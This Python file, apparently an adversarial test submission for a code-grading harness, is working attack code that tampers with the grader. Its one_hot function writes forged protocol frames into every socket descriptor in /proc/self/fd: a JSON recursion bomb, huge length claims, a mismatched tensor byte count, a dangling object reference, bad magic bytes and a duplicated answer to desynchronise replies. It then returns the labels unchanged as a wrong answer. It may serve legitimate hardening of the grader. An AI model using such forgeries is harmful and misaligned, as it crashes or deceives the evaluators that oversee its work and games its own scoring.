"""Attack: write forged protocol messages straight into the worker's channel to
the grader (every socket file descriptor in /proc/self/fd), then answer wrongly.

A different forgery per input (picked from the labels' shape and classes): a header that is
200 KB of nested JSON brackets (json.loads recursion), a header that claims
2**32-1 bytes, a payload that claims 2**60 bytes, a tensor whose announced
byte count disagrees with its shape, a reference to an object that is not in
the table, wrong magic bytes, and a well-formed answer followed by a second
one (to desynchronise request and answer).
"""

import json
import os
import struct

PREFIX = struct.Struct("!4sIQ")


def _frame(header, payload=b"", magic=b"TDW1", head_len=None, payload_len=None):
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    return PREFIX.pack(magic, len(head) if head_len is None else head_len,
                       len(payload) if payload_len is None else payload_len) + head + payload


def _forgeries():
    tensor = {"k": "tensor", "dtype": "int64", "shape": [2, 3], "stride": [3, 1], "device": "cpu",
              "rg": False, "param": False, "nbytes": 999, "buf": 0}
    return [
        _frame(b"[" * 100000 + b"]" * 100000),
        _frame(b"{}", head_len=2**32 - 1),
        _frame({"ok": None}, payload_len=2**60),
        _frame({"ok": {"obj": 0}, "objects": [tensor]}, bytes(999)),
        _frame({"ok": {"obj": 12345}, "objects": []}),
        _frame({"ok": 1}, magic=b"EVIL"),
        _frame({"ok": None, "stdout": "", "stderr": ""}) * 2,
    ]


def one_hot(labels, num_classes=-1):
    forgeries = _forgeries()
    data = forgeries[(labels.numel() * 3 + labels.dim() + num_classes) % len(forgeries)]
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                os.write(int(fd), data)
        except OSError:
            pass
    return labels
